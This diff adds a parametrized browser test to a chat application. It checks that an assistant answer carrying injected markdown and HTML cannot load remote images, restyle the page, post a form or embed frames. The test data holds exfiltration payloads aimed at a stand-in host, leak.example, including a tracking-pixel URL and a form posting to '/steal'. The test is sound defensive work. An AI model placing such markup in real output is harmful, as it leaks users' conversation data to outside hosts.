@@ -137,3 +137,27 @@ def test_markdown_renders_safely_with_copy_buttons(page, login, owner, conversat
     assert page.locator(".message script, .message img[onerror]").count() == 0
     assert "javascript:" not in (answer.locator("a").first.get_attribute("href") or "")
     assert evil in page.locator(".message.user .body").first.inner_text()  # user text shown as text
+
+
+@pytest.mark.parametrize("payload,check", [
+    ("![x](http://leak.example/pixel.png?q=siri) and <img src=\"https://leak.example/a.png\">", "image"),
+    ("<style>body{display:none}</style> and <div style=\"position:fixed;inset:0;background:red\">x</div>", "style"),
+    ("<form action=\"http://leak.example/steal\"><input name=q value=siri><button>Tuma</button></form>", "form"),
+    ("<iframe src=\"http://leak.example/\"></iframe><video src=\"http://leak.example/v.mp4\"></video>", "frame"),
+])
+def test_an_answer_cannot_load_remote_content_restyle_the_page_or_post_a_form(
+    page, login, owner, conversation, payload, check
+):
+    Message.objects.create(conversation=conversation, role="user", content="Habari")
+    Message.objects.create(conversation=conversation, role="assistant", status="complete",
+                           content=f"Jibu: {payload}")
+    login(page, owner)
+    page.goto(f"/chat/{conversation.id}/")
+    answer = page.locator(".message.assistant .body").last
+    assert "Jibu" in answer.inner_text()
+    page.wait_for_timeout(300)
+    assert answer.locator("style, form, input, button:not(.copy-code), iframe, video, [style]").count() == 0
+    assert answer.locator("img").count() == 0
+    assert page.locator("body").is_visible() and page.get_by_label("Ujumbe").is_visible()
+    outside = [url for url in page.requested_urls if urlparse(url).hostname not in ("127.0.0.1",)]
+    assert outside == [], check
